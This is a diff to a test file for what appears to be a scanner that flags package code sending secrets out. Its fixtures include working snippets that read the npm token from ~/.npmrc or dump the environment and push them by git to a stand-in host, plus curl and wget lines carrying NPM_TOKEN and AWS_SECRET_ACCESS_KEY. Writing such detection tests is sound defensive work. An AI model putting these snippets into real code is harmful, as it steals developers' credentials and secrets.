@@ -45,8 +45,30 @@ examine(sendsWithACommand, {
     },
     { when: 'a secret variable is in the address', files: hook('curl -s "https://a.invalid/?t=$NPM_TOKEN"'), weight: 'strong' },
     { when: 'a secret variable is in a header', files: hook('wget -q --header "X: ${AWS_SECRET_ACCESS_KEY}" https://a.invalid/') },
+    {
+      when: 'a file of tokens is put into a repository that is pushed to somebody, by a helper that takes any words',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const { execFile } = require('child_process'); const git = (cwd, ...args) => new Promise((done, fail) => execFile('git', args, { cwd }, error => (error ? fail(error) : done()))); exports.load = async () => { const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'a-')); await git(dir, 'init', '-q'); fs.writeFileSync(path.join(dir, 'a.json'), JSON.stringify({ token })); await git(dir, 'add', '.'); await git(dir, 'push', '-q', 'https://git.specimen.invalid/store.git', 'HEAD:refs/heads/a'); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the environment is put into such a one',
+      files: run(
+        `const fs = require('fs'); fs.writeFileSync('/tmp/box/env.json', JSON.stringify(process.env)); cp.execSync('git add . && git commit -qm x && git push -q https://git.specimen.invalid/store.git HEAD', { cwd: '/tmp/box' })`,
+      ),
+      weight: 'proof',
+      says: ['the environment'],
+    },
   ],
   silent: [
+    {
+      when: 'pages that were built are pushed, with the token of the user at hand',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const { execFile } = require('child_process'); const git = (cwd, ...args) => new Promise((done, fail) => execFile('git', args, { cwd }, error => (error ? fail(error) : done()))); exports.publish = async page => { const isLoggedIn = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').includes('_authToken'); const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'a-')); await git(dir, 'init', '-q'); fs.writeFileSync(path.join(dir, 'index.html'), page); await git(dir, 'push', '-q', 'https://git.specimen.invalid/pages.git', 'HEAD'); return isLoggedIn; };`,
+      },
+    },
+
     {
       when: 'in a large bundle the environment and a program that is started are far apart',
       files: run(
